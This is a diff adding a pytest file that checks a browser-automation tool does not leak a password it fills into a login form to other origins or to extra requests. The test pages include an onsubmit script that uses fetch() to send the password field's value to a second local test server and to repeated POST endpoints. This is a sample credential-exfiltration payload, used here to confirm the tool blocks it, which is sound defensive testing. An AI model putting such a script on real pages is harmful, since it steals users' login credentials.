@@ -1,0 +1,61 @@
+"""What a page knows stays with it: the password with the form's own origin, cookies and answers with theirs."""
+
+from __future__ import annotations
+
+import ssl
+from dataclasses import replace
+
+import pytest
+
+from reviewer.browse import Browser, NotShown
+from reviewer.fetch import Door
+from reviewer.settings import FormLogin, Network
+from tests.browse.app import HTML, fixed
+from tests.browse.looks import NETWORK
+from tests.origin import Asked, Origin
+
+pytestmark = [pytest.mark.anyio, pytest.mark.browser]
+
+WORDS = "<p>Wash your hands, and ask your doctor about the rest of what is written here, and some more words.</p>"
+FORM = WORDS + "<form FORM><input id=u name=u><input id=w name=w type=password><button>Go</button></form>"
+LOUD = 'onsubmit="const s = (at, how) => fetch(at, how).catch(() => 0); SAYS; return false"'
+
+
+def settings(origin: Origin, ca_file: str) -> Network:
+    """The network with a login for that origin."""
+    made = FormLogin("i", origin.url("").rstrip("/"), origin.url("/login"), "#u", "#w", "button", "reviewer", "hunter2")
+    return replace(NETWORK, ca_file=ca_file, logins=(made,))
+
+
+async def log_in(origin: Origin, ca_file: str, form: str) -> str:
+    """What is said when nobody is let in by such a form."""
+    origin._behaviours = {"/login": fixed(FORM.replace("FORM", form), HTML), **origin._behaviours}
+    network = settings(origin, ca_file)
+    async with Door(network, version="0") as door, Browser(door, network) as browser:
+        with pytest.raises(NotShown) as said:
+            await browser.log_in(network.logins[0])
+    return str(said.value)
+
+
+async def test_nothing_leaves_the_origin_of_a_filled_form(chromium_here: str, secure: tuple[ssl.SSLContext, str]) -> None:
+    """A form and a script that would take the password elsewhere, or into an address of its own origin, reach nobody."""
+    async with Origin({}, context=secure[0]) as other, Origin({}, context=secure[0]) as origin:
+        says = f"s('{other.url('/a')}?' + w.value); s('{other.url('/b')}'); s('/c?' + w.value); s('/d')"
+        await log_in(origin, secure[1], LOUD.replace("SAYS", says))
+        assert other.connections == 0
+        assert {asked.path for asked in origin.asked} >= {"/login", "/d"}
+        assert "hunter2" not in "".join(asked.path for asked in origin.asked)
+
+
+async def test_the_password_is_sent_once(chromium_here: str, secure: tuple[ssl.SSLContext, str]) -> None:
+    """Of two forms with the password one leaves."""
+
+    async def takes(asked: Asked) -> bool:
+        await asked.reader.readexactly(int(asked.headers["content-length"]))
+        await asked.answer()
+        return True
+
+    async with Origin({"/a": takes, "/b": takes}, context=secure[0]) as origin:
+        says = "s('/a', {method: 'POST', body: w.value}); s('/b', {method: 'POST', body: w.value})"
+        await log_in(origin, secure[1], LOUD.replace("SAYS", says))
+        assert sum(asked.method == "POST" for asked in origin.asked) == 1
